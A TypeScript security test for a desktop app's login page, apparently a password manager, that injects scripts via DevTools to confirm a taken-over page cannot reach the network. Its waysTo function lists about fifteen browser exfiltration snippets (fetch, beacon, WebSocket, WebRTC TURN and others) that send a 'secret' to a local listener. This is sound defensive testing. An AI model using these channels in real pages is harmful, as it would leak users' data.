import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { describe, expect, it, onTestFinished } from 'vitest';
import { startForeignServer } from '../../support/foreign-server.ts';
import { launchApp } from '../../support/launch-app.ts';
import { startRecordingServer } from '../../support/recording-server.ts';
import { ana, createAccount, expectProfile, heading, seen, useServer } from '../../support/screens.ts';
import { makeTemporaryFolder } from '../../support/temporary-folder.ts';

// Scripts are put into the page through the DevTools protocol, as if somebody had found a hole in it.

/** Runs each attempt in the page; what it came to, by its name. An attempt that has no end is `nothing`. */
function attempt(page: Page, attempts: Record<string, string>): Promise<Record<string, string>> {
  return page.evaluate(async (all) => {
    const results = Object.entries(all).map(async ([name, source]) => {
      const late = new Promise<string>((resolve) => setTimeout(() => resolve('nothing'), 1500));
      // oxlint-disable-next-line typescript/no-implied-eval -- DevTools may, the page may not
      const made = Promise.resolve().then(() => (0, eval)(`(async () => { ${source} })()`) as Promise<unknown>);
      const done = made.then(String, (error: unknown) => `refused: ${error instanceof Error ? error.name : 'event'}`);
      return [name, await Promise.race([done, late])];
    });
    return Object.fromEntries(await Promise.all(results)) as Record<string, string>;
  }, attempts);
}

/** Ways to the network, for one server; each ends with what it got. */
const waysTo = ({ port, udp, secret }: { port: number; udp: number; secret: string }): Record<string, string> => {
  const url = `http://127.0.0.1:${port}/${secret}`;
  const element = (make: string): string =>
    `return new Promise((done, failed) => { ${make}; it.onload = () => done('loaded'); it.onerror = failed; document.body.append(it); })`;
  return {
    fetch: `return (await fetch('${url}', { mode: 'no-cors' })).type`,
    xhr: `return new Promise((done, failed) => { const it = new XMLHttpRequest(); it.onload = () => done('loaded'); it.onerror = failed; it.open('GET', '${url}'); it.send(); })`,
    socket: `return new Promise((done, failed) => { const it = new WebSocket('ws://127.0.0.1:${port}/${secret}'); it.onopen = () => done('open'); it.onerror = failed; })`,
    events: `return new Promise((done, failed) => { const it = new EventSource('${url}'); it.onopen = () => done('open'); it.onerror = failed; })`,
    image: element(`const it = new Image(); it.src = '${url}'`),
    frame: element(`const it = document.createElement('iframe'); it.src = '${url}'`),
    sheet: element(`const it = document.createElement('link'); it.rel = 'stylesheet'; it.href = '${url}'`),
    preconnect: `for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload']) { const it = document.createElement('link'); it.rel = rel; it.as = 'fetch'; it.href = '${url}'; document.head.append(it); }`,
    beacon: `navigator.sendBeacon('${url}', 'x')`,
    form: `const it = document.createElement('form'); it.action = '${url}'; it.method = 'post'; document.body.append(it); it.submit()`,
    download: `const it = document.createElement('a'); it.href = '${url}'; it.download = 'x'; document.body.append(it); it.click()`,
    worker: `new Worker('${url}')`,
    module: `await import('${url}')`,
    transport: `await new WebTransport('https://127.0.0.1:${port}/${secret}').ready`,
    webrtc: `const it = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }, { urls: ['turn:127.0.0.1:${port}?transport=tcp', 'turn:127.0.0.1:${udp}'], username: '${secret}', credential: 'x' }] }); it.createDataChannel('x'); await it.setLocalDescription(); await new Promise((done) => (it.onicegatheringstatechange = () => it.iceGatheringState === 'complete' && done())); return 'gathered'`,
  };
};

async function startListener() {
  const requests: string[] = [];
  const server = await startRecordingServer(({ requestLine }) => {
    requests.push(requestLine);
    return 'HTTP/1.1 200 OK\r\nContent-Length: 0\r\nAccess-Control-Allow-Origin: *\r\n\r\n';
  });
  onTestFinished(() => server.close());
  const udp = createSocket('udp4');
  let packets = 0;
  udp.on('message', () => (packets += 1));
  udp.bind(0, '127.0.0.1');
  await once(udp, 'listening');
  onTestFinished(() => void udp.close());
  return { requests, server, port: server.port, udp: udp.address().port, packets: () => packets };
}

describe('a page that was taken over', () => {
  it('reaches no network, with its policy and without', async () => {
    const listener = await startListener();
    const { page, userDataDir, quit } = await launchApp();
    await seen(heading(page, 'Log in'));
    const devTools = await page.context().newCDPSession(page);
    for (const bypass of [false, true]) {
      await devTools.send('Page.setBypassCSP', { enabled: bypass });
      await page.reload();
      await seen(heading(page, 'Log in'));
      const results = await attempt(page, waysTo({ ...listener, secret: 'secret' }));
      // Refused at once, or without an end; the frame holds the page of the refusal.
      const reached = Object.entries(results).filter(([, result]) => /^(open|loaded|opaque|basic|cors)$/.test(result));
      expect(reached).toEqual([['frame', 'loaded']]);
      expect([listener.requests, listener.server.receivedBytes(), listener.packets()]).toEqual([[], 0, 0]);
    }
    expect(page.url()).toBe('app://llavero/');
    await quit();
    const log = await readFile(path.join(userDataDir, 'logs', 'main.log'), 'utf8');
    expect(log).toContain(`a page asked for http://127.0.0.1:${listener.port} and was refused`);
    expect(log).toContain(`a page asked for ws://127.0.0.1:${listener.port} and was refused`);
    expect(log).not.toContain('secret');
  });
});
